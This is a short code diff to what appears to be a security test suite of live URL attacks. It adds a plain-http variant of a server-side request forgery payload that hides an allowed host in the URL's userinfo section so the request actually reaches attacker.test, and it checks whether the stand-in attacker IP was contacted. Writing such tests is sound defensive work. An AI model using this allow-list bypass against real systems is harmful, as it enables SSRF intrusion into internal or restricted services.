@@ -182,7 +182,11 @@ export const urlAttacks: readonly LiveAttack[] = [
   {
     id: 'ssrf-userinfo',
     kind: 'web-download',
-    urls: ({ allowedHost }, mark) => [`https://${allowedHost}@attacker.test/x?${mark}`],
+    // No authority signs a certificate for a host with an @ in it, so over https the connection ends in the TLS handshake.
+    urls: ({ allowedHost }, mark) => [
+      `https://${allowedHost}@attacker.test/x?${mark}`,
+      `http://${allowedHost}@attacker.test/x?${mark}`,
+    ],
     names: () => ({ 'attacker.test': ['203.0.113.66'] }),
     hasWorked: reaches('203.0.113.66:443', '203.0.113.66:80'),
   },
